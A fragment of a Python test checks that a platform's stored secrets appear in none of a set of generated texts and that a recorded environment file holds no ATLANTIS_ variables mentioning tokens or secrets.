    for words, secret in platform.atlantis.secrets.items():
        assert len(secret) > 10
        assert [name for name, text in texts if secret.encode() in text] == []
        seen(f"{words} is in none of {len(texts)} texts")
    environment = (platform.atlantis.folder / "record.env").read_text(encoding="utf-8")
    told = [line for line in environment.splitlines() if line.startswith("ATLANTIS_")]
    assert not [line for line in told if "TOKEN" in line or "SECRET" in line]
